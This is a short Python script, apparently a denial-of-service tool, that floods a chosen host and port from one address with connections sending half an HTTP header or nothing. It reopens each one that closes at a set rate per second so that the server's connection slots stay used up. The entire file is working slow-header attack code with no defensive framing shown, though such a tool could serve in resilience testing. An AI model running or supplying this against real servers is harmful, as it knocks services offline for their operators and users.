"""flood.py HOST PORT FROM HALF SILENT PER_SECOND: from one address, connections that send half a head and others that send nothing.

Whichever is closed is opened again, so many a second; "all are open" is printed once each has been, and the end of standard input ends it.
"""
import errno, resource, select, socket, sys, time

host, port, source = sys.argv[1], int(sys.argv[2]), sys.argv[3]
half, silent, per_second = map(int, sys.argv[4:])
most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
poll = select.epoll()
poll.register(0, select.EPOLLIN)
open_now, to_open = {}, [b"GET / HTTP/1.1\r\nHost: a\r\nX: "] * half + [b""] * silent
total = 0
began = time.monotonic()

def connect(said):
    one = socket.socket()
    one.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT: its port is chosen as it connects.
    one.bind((source, 0))
    one.setblocking(False)
    if one.connect_ex((host, port)) not in (0, errno.EINPROGRESS):
        one.close()
        to_open.append(said)
        return
    poll.register(one, select.EPOLLOUT | select.EPOLLRDHUP)
    open_now[one.fileno()] = (one, said)

def on_event(fd, event):
    one, said = open_now[fd]
    if event & (select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR):
        poll.unregister(fd)
        del open_now[fd]
        one.close()
        to_open.append(said)
    elif event & select.EPOLLOUT:
        poll.modify(fd, select.EPOLLRDHUP)
        if said:
            one.send(said)

told = False
while True:
    due = int((time.monotonic() - began) * per_second) - total
    for _ in range(min(due, len(to_open), 50)):
        total += 1
        connect(to_open.pop(0))
    if not told and total >= half + silent:
        print("all are open", flush=True)
        told = True
    if not to_open:
        total = max(total, int((time.monotonic() - began) * per_second))
    for fd, event in poll.poll(0.01):
        if fd == 0:
            sys.exit()
        on_event(fd, event)
